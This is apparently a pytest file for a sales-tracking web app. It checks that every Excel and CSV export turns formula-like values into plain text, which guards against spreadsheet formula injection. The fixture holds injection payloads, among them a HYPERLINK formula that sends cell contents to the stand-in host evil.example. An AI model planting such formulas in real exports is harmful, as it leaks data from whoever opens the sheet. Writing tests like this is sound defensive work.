"""Every export opens in Excel/WPS as text: a name, number or contact that
begins with = + - @ (or a tab/CR) is never a live formula (safecell.safe_cell)."""
import csv
import io
import re
import tempfile
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from salestrack import archive, audit, create_app
from salestrack.database import write_transaction
from salestrack.extensions import db
from salestrack.formkit import registry
from salestrack.models import Project
from tests.archive_helpers import approve, file_sheet, make_people
from tests.conftest import make_config

# Final approvals are sealed by the job queue: its worker runs beside the app, as in production.
pytestmark = pytest.mark.usefixtures("worker")

HOSTILE = {
    "project": '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "customer": "+SUM(1,2)精密机械有限公司",
    "contact": "-2+3",
    "short_name": "@SUM(A1)",
    "address": "\t=1+1",
}


@pytest.fixture
def hostile(factory):
    _, _, rep, _ = factory.team_with_people()
    customer = factory.customer(rep, name=HOSTILE["customer"], contact=HOSTILE["contact"],
                                short_name=HOSTILE["short_name"], address=HOSTILE["address"])
    factory.project(rep, customer, name=HOSTILE["project"])
    with write_transaction():
        audit.append("login_failed", None, target_label=HOSTILE["project"])
    return factory.user("director")


def _export_urls():
    """Every export's URL; a report's export (/reports/<key>/…) once per report."""
    from salestrack.reports import REPORTS
    app = create_app(make_config("sqlite://", Path(tempfile.gettempdir())))
    rules = [r.rule for r in app.url_map.iter_rules() if r.rule.endswith((".xlsx", ".csv")) and "GET" in r.methods]
    return sorted(rule.replace("<key>", key) if "<key>" in rule else rule
                  for rule in rules for key in ([k for k, _ in REPORTS] if "<key>" in rule else [None]))


def _formula_free_xlsx(data: bytes) -> list[str]:
    """The text of every cell; fails when any sheet holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), name
    wb = load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t")):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                texts.append(cell.value)
    return texts


def test_every_xlsx_and_csv_export_is_listed():
    assert {"/funnel/export/projects.xlsx", "/funnel/export/funnel.xlsx", "/funnel/export/forecast.xlsx",
            "/audit/export.csv"} <= set(_export_urls())


@pytest.mark.parametrize("url", _export_urls())
def test_every_export_writes_formula_text_as_text(url, hostile, client, login, factory):
    login(hostile if "/audit/" not in url else factory.user("auditor"))
    response = client.get(url)
    assert response.status_code == 200
    if url.endswith(".csv"):
        text = response.get_data().decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert "'" + HOSTILE["project"] in cells
        return
    texts = _formula_free_xlsx(response.data)
    if url.endswith("projects.xlsx"):
        assert set(HOSTILE.values()) <= set(texts)
    if url.endswith(("/funnel_by_category/export.xlsx", "/funnel_report/export.xlsx")):
        assert {HOSTILE["customer"], HOSTILE["contact"], HOSTILE["address"]} <= set(texts)
    if url.endswith(("/funnel_report/export.xlsx", "/project_tracking/export.xlsx")):
        assert HOSTILE["project"] in texts


def test_the_audit_exports_manifest_keeps_formula_text_as_text(app, factory, tmp_path):
    people = make_people(factory)
    spec = registry.get("phone_log")
    record, _ = file_sheet(factory, people, spec, rows=1)
    approve(record, spec, people.author)
    db.session.execute(sa.update(Project).where(Project.id == record.project_id).values(name=HOSTILE["project"]))
    db.session.commit()
    today = archive.local_today()
    out = io.BytesIO()
    criteria = archive.ExportCriteria(start=today - timedelta(days=1), end=today + timedelta(days=1))
    assert archive.export_zip(people.author, criteria, out) == 1
    manifest = zipfile.ZipFile(out).read("manifest.csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(manifest)))
    assert rows[1][2] == "'" + HOSTILE["project"]
